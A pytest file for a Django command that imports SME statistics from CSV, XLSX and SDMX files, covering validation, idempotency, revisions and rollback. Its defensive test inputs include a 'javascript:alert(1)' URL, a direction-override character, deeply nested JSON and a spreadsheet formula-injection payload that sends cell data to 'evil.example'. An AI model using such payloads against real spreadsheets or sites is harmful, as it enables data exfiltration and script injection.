"""``smenet import statistics FILE``: every format, all or nothing, idempotent, revisions."""

from __future__ import annotations

import io
import json

import pytest
import sdmx
from openpyxl import Workbook

from smenet.cli import main
from smenet.statistics import exports, services
from smenet.statistics.importer import ImportFailed, import_statistics_data, read_records
from smenet.statistics.models import ImportBatch, Observation, ObservationRevision
from smenet.statistics.sdmx_structure import load as load_structures

HEADER = "indicator,ref_area,period,value,unit,obs_status,source,definition\n"
GOOD = HEADER + (
    "SME_EMP_SHARE,AZE,2019,43.7,PC,A,https://example.org/aze,\n"
    "SME_EMP_SHARE,TUR,2020,72.5,percent,E,,\n"
    "SME_EMP_SHARE,OIC,2025,93,,,,\n"
    "SME_COUNT,SAU,2023-Q3,1270000,ENT,P,https://example.org/sau,\n"
    "SME_COUNT,PAK,2021,,,M,,\n"
)


def run(tmp_path, text: str | bytes, name: str = "data.csv", capsys=None) -> int:
    path = tmp_path / name
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return main(["import", "statistics", str(path)])


def state() -> set[tuple]:
    return set(
        Observation.objects.values_list(
            "indicator__code",
            "ref_area",
            "period",
            "value",
            "obs_status",
            "source_url",
            "definition__iso3",
            "qualifier",
            "note",
        )
    )


@pytest.mark.django_db(transaction=True)
def test_plain_csv_import_then_the_same_file_again_changes_nothing(tmp_path, indicators, capsys):
    assert run(tmp_path, GOOD) == 0
    assert "5 new" in capsys.readouterr().out
    assert Observation.objects.get(ref_area="TUR").value == 72.5
    assert Observation.objects.get(ref_area="SAU").period == "2023-Q3"
    assert Observation.objects.get(ref_area="PAK").value is None
    before, batches = state(), ImportBatch.objects.count()

    assert run(tmp_path, GOOD) == 0
    assert "0 new, 0 revised, 5 unchanged" in capsys.readouterr().out
    assert state() == before
    assert ImportBatch.objects.count() == batches
    assert not ObservationRevision.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_changed_value_is_recorded_as_a_revision_keeping_the_old_one(
    tmp_path, indicators, capsys
):
    assert run(tmp_path, GOOD) == 0
    assert run(tmp_path, GOOD.replace("72.5,percent,E", "72.9,percent,A")) == 0
    assert "0 new, 1 revised, 4 unchanged" in capsys.readouterr().out
    obs = Observation.objects.get(ref_area="TUR")
    assert (obs.value, obs.obs_status) == (72.9, "A")
    (revision,) = obs.revisions.all()
    assert (revision.value, revision.obs_status) == (72.5, "E")
    assert revision.revised_in == obs.import_batch
    assert obs.import_batch.revised == 1


BAD = [
    (
        "unknown indicator",
        "NOPE,AZE,2020,1,,,,",
        'line 2: indicator: unknown indicator code "NOPE"',
    ),
    ("unknown area", "SME_EMP_SHARE,XYZ,2020,1,,,,", 'line 2: ref_area: unknown area "XYZ"'),
    ("future period", "SME_EMP_SHARE,AZE,2999,1,,,,", "line 2: period: 2999 is in the future"),
    ("bad period", "SME_EMP_SHARE,AZE,20-20,1,,,,", 'line 2: period: "20-20" is not a year'),
    (
        "wrong unit",
        "SME_EMP_SHARE,AZE,2020,1,ENT,,,",
        "line 2: unit: SME_EMP_SHARE is measured in percent (PC), not enterprises (ENT)",
    ),
    (
        "negative share",
        "SME_EMP_SHARE,AZE,2020,-4,,,,",
        "line 2: value: a share cannot be negative",
    ),
    (
        "share above 100",
        "SME_EMP_SHARE,AZE,2020,104,,,,",
        "line 2: value: 104 is above the highest acceptable value",
    ),
    (
        "not a number",
        "SME_EMP_SHARE,AZE,2020,12%,,,,",
        'line 2: value: expected a number, not "12%"',
    ),
    (
        "decimal comma",
        'SME_EMP_SHARE,AZE,2020,"12,5",,,,',
        "line 2: value: expected a number with a point",
    ),
    ("missing value", "SME_EMP_SHARE,AZE,2020,,,A,,", "line 2: value: required"),
    ("bad status", "SME_EMP_SHARE,AZE,2020,1,,X,,", 'line 2: obs_status: "X" is not one of'),
    ("bad source", "SME_EMP_SHARE,AZE,2020,1,,,javascript:alert(1),", "line 2: source:"),
    (
        "unknown definition",
        "SME_EMP_SHARE,AZE,2020,1,,,,XXX",
        'line 2: definition: no national SME definition of "XXX"',
    ),
    (
        "truncated",
        "SME_EMP_SHARE,AZE,2020",
        "line 2: expected 8 fields, found 3 (is the file truncated?)",
    ),
    (
        "direction override",
        "SME_EMP_SHARE,AZE,2020,1,,,https://example.org/\u202eexe.txt,",
        "line 2: source: The text contains an invisible direction-override character (U+202E)"
        " at position 21; remove it.",
    ),
    (
        "control character",
        "SME_EMP_SHARE,AZE,2020,1,P\x1bC,,,",
        "line 2: unit: The text contains an invisible control character (U+001B) at position 2",
    ),
    (
        "overlong code",
        "SME_EMP_SHARE," + "A" * 1001 + ",2020,1,,,,",
        "line 2: ref_area: Use at most 1000 characters (this text has 1001).",
    ),
    (
        "duplicate",
        "SME_EMP_SHARE,AZE,2020,1,,,,\nSME_EMP_SHARE,AZE,2020,2,,,,",
        "line 3: SME_EMP_SHARE, AZE, 2020 already appears at line 2",
    ),
]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(("case", "line", "message"), BAD, ids=[b[0] for b in BAD])
def test_bad_input_is_refused_naming_the_line_and_nothing_is_saved(
    tmp_path, indicators, capsys, case, line, message
):
    # A good line first: the whole file is refused, not just the bad line.
    text = HEADER + line + "\nSME_EMP_SHARE,TUR,2020,50,,,,\n"
    assert run(tmp_path, text) == 2
    err = capsys.readouterr().err
    assert message in err
    assert "Nothing was imported" in err
    assert not Observation.objects.exists()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_unknown_and_missing_columns_are_named(tmp_path, indicators, capsys):
    assert run(tmp_path, "indicator,area,period,vaule\nSME_EMP_SHARE,AZE,2020,1\n") == 2
    err = capsys.readouterr().err
    assert "missing column(s): ref_area, value" in err
    assert "unknown column(s): area, vaule" in err


def _export(fmt: str) -> bytes:
    rows = exports.rows_of(Observation.objects.all())
    if fmt == "xlsx":
        return exports.plain_xlsx(rows)
    return "".join(exports.render(fmt, rows)).encode()


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("csv", "x.csv"),
        ("xlsx", "x.xlsx"),
        ("sdmx-generic", "x.xml"),
        ("sdmx-structure-specific", "x.xml"),
        ("sdmx-csv", "x.csv"),
    ],
)
def test_an_export_read_back_by_the_import_gives_the_same_data(
    tmp_path, indicators, fmt, name, capsys
):
    from smenet.knowledge.reference import load_sme_definitions

    load_sme_definitions()
    assert (
        run(tmp_path, GOOD.replace("https://example.org/aze,", "https://example.org/aze,AZE")) == 0
    )
    Observation.objects.filter(ref_area="OIC").update(
        qualifier="gt", note="Stated at the founding meeting."
    )
    before = state()
    data = _export(fmt)
    # Read back into the same database: nothing changes …
    assert run(tmp_path, data, name) == 0
    assert "0 new, 0 revised, 5 unchanged" in capsys.readouterr().out
    # … and into an empty one: the same data (the plain layout does not carry notes and
    # qualifiers; SDMX does).
    Observation.objects.all().delete()
    ImportBatch.objects.all().delete()
    assert run(tmp_path, data, name) == 0
    after = state()
    if fmt in ("csv", "xlsx"):
        strip = lambda rows: {r[:7] for r in rows}  # noqa: E731
        assert strip(after) == strip(before)
    else:
        assert after == before


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["sdmx-generic", "sdmx-structure-specific"])
def test_the_streaming_sdmx_ml_reader_reads_what_sdmx1_reads(indicators, fmt):
    import_statistics_data(GOOD.encode(), name="x.csv")
    data = _export(fmt)
    _fmt, records, errors = read_records(data, name="x.xml")
    assert not errors
    ours = {(r.indicator.code, r.ref_area, r.period.code, r.value, r.obs_status) for r in records}
    structures = load_structures()
    message = sdmx.read_sdmx(
        io.BytesIO(data), structure=structures.dsd if "specific" in fmt else None
    )
    theirs = set()
    for obs in message.data[0].obs:
        key = {k: str(v.value) for k, v in obs.key.values.items()}
        value = float(obs.value)
        theirs.add(
            (
                key["INDICATOR"],
                key["REF_AREA"],
                key["TIME_PERIOD"],
                None if value != value else value,
                str(obs.attrib["OBS_STATUS"].value),
            )
        )
    assert ours == theirs


SDMX_JSON = {
    "header": {
        "id": "test",
        "prepared": "2025-01-01T00:00:00Z",
        "sender": {"id": "TEST", "name": "TEST"},
    },
    "dataSets": [
        {
            "action": "Information",
            "series": {
                "0:0:0": {"attributes": [0], "observations": {"0": [43.7, 0], "1": [44.1, 1]}},
                "0:1:0": {"attributes": [0], "observations": {"1": [72.5, 0]}},
            },
        }
    ],
    "structure": {
        "dimensions": {
            "series": [
                {"id": "FREQ", "name": "FREQ", "values": [{"id": "A", "name": "A"}]},
                {
                    "id": "REF_AREA",
                    "name": "REF_AREA",
                    "values": [{"id": "AZE", "name": "AZE"}, {"id": "TUR", "name": "TUR"}],
                },
                {
                    "id": "INDICATOR",
                    "name": "INDICATOR",
                    "values": [{"id": "SME_EMP_SHARE", "name": "SME_EMP_SHARE"}],
                },
            ],
            "observation": [
                {
                    "id": "TIME_PERIOD",
                    "name": "TIME_PERIOD",
                    "values": [{"id": "2019", "name": "2019"}, {"id": "2020", "name": "2020"}],
                }
            ],
        },
        "attributes": {
            "series": [
                {
                    "id": "UNIT_MEASURE",
                    "name": "UNIT_MEASURE",
                    "values": [{"id": "PC", "name": "PC"}],
                }
            ],
            "observation": [
                {
                    "id": "OBS_STATUS",
                    "name": "OBS_STATUS",
                    "values": [{"id": "A", "name": "A"}, {"id": "E", "name": "E"}],
                }
            ],
        },
    },
}


@pytest.mark.django_db(transaction=True)
def test_sdmx_json_is_read_through_sdmx1(tmp_path, indicators, capsys):
    assert run(tmp_path, json.dumps(SDMX_JSON), "x.json") == 0
    assert {(o.ref_area, o.period, o.value, o.obs_status) for o in Observation.objects.all()} == {
        ("AZE", "2019", 43.7, "A"),
        ("AZE", "2020", 44.1, "E"),
        ("TUR", "2020", 72.5, "A"),
    }


@pytest.mark.django_db(transaction=True)
def test_sdmx_json_nested_1000_deep_is_refused_before_parsing(tmp_path, indicators, capsys):
    deep = json.dumps({**SDMX_JSON, "meta": "x"}).replace('"x"', "[" * 1000 + "]" * 1000)
    assert run(tmp_path, deep, "x.json") == 2
    err = capsys.readouterr().err
    assert "The JSON is nested more than 32 levels deep." in err and "recursion" not in err
    assert not Observation.objects.exists() and not ImportBatch.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_sdmx_errors_name_series_period_and_line(tmp_path, indicators, capsys):
    import_statistics_data(GOOD.encode(), name="x.csv")
    data = _export("sdmx-generic").decode().replace('value="43.7"', 'value="-43.7"').encode()
    count = Observation.objects.count()
    assert run(tmp_path, data, "x.xml") == 2
    err = capsys.readouterr().err
    assert "(series A.AZE.SME_EMP_SHARE, period 2019): value: a share cannot be negative" in err
    assert err.startswith("line ")
    assert Observation.objects.count() == count


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "x.xml",
            b"<?xml version='1.0'?><mes:GenericData xmlns:mes='m'><mes:DataSet><Series",
            "the file is not well-formed XML (is it truncated?)",
        ),
        ("x.json", b'{"dataSets": [', "the file is not valid JSON (is it truncated?)"),
        ("x.xlsx", b"PK\x03\x04truncated", "the file is not a readable XLSX workbook"),
        ("x.csv", b'indicator,ref_area,period,value\nSME_EMP_SHARE,AZE,2020,"4', "line 2:"),
    ],
    ids=["xml", "json", "xlsx", "csv"],
)
def test_truncated_files_are_refused(tmp_path, indicators, capsys, name, data, message):
    assert run(tmp_path, data, name) == 2
    assert message in capsys.readouterr().err
    assert not Observation.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_sdmx_with_another_structure_is_refused(tmp_path, indicators, capsys):
    data = (
        '<?xml version="1.0"?><mes:StructureSpecificData '
        'xmlns:mes="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/message"><mes:Header>'
        "<mes:ID>x</mes:ID></mes:Header><mes:DataSet>"
        '<Series FREQ="A" GEO="AZ" INDIC="EMP"><Obs TIME_PERIOD="2020" OBS_VALUE="1"/></Series>'
        "</mes:DataSet></mes:StructureSpecificData>"
    )
    assert run(tmp_path, data, "x.xml") == 2
    err = capsys.readouterr().err
    assert "do not match SMENET's structure SME_STATS" in err
    assert "GEO" in err and "FREQ.REF_AREA.INDICATOR" in err
    assert not Observation.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_xlsx_import_names_rows(tmp_path, indicators, capsys):
    book = Workbook()
    sheet = book.active
    sheet.append(["indicator", "ref_area", "period", "value"])
    sheet.append(["SME_EMP_SHARE", "AZE", 2020, 43.7])
    sheet.append(["SME_EMP_SHARE", "TUR", 2020, -1])
    out = io.BytesIO()
    book.save(out)
    assert run(tmp_path, out.getvalue(), "x.xlsx") == 2
    assert "row 3: value: a share cannot be negative" in capsys.readouterr().err
    sheet.delete_rows(3)
    out = io.BytesIO()
    book.save(out)
    assert run(tmp_path, out.getvalue(), "x.xlsx") == 0
    assert Observation.objects.get().value == 43.7


@pytest.mark.django_db(transaction=True)
def test_a_write_failing_half_way_undoes_the_chunks_already_written(indicators, monkeypatch):
    import_statistics_data(GOOD.encode(), name="x.csv")
    before = state()
    monkeypatch.setattr(services, "CHUNK", 2)
    calls = {"n": 0}
    real = services._create

    def failing(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full")
        return real(*args, **kwargs)

    monkeypatch.setattr(services, "_create", failing)
    text = (
        GOOD.replace("43.7", "44.0")
        + "SME_EMP_SHARE,SAU,2020,1,,,,\nSME_EMP_SHARE,EGY,2020,2,,,,\nSME_EMP_SHARE,IRN,2020,3,,,,\n"
    )
    with pytest.raises(RuntimeError):
        import_statistics_data(text.encode(), name="y.csv")
    assert state() == before
    assert not ObservationRevision.objects.exists()
    assert ImportBatch.objects.filter(state="undone").count() == 1


@pytest.mark.django_db
def test_import_failed_lists_every_error(indicators):
    text = HEADER + "".join(f"NOPE{i},AZE,2020,1,,,,\n" for i in range(3))
    with pytest.raises(ImportFailed) as exc:
        import_statistics_data(text.encode(), name="x.csv")
    assert len(exc.value.errors) == 3


@pytest.mark.django_db(transaction=True)
def test_exports_escape_formulas_and_the_import_reads_them_back(tmp_path, indicators, capsys):
    assert run(tmp_path, GOOD) == 0
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    Observation.objects.filter(ref_area="OIC").update(note=formula)
    Observation.objects.filter(ref_area="TUR").update(note="-cmd")
    before = state()
    data = _export("sdmx-csv").decode()
    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in data and ",'-cmd" in data
    assert "\n" + formula not in data and "," + formula not in data
    capsys.readouterr()
    assert run(tmp_path, data, "x.csv") == 0
    assert "0 new, 0 revised, 5 unchanged" in capsys.readouterr().out
    assert state() == before
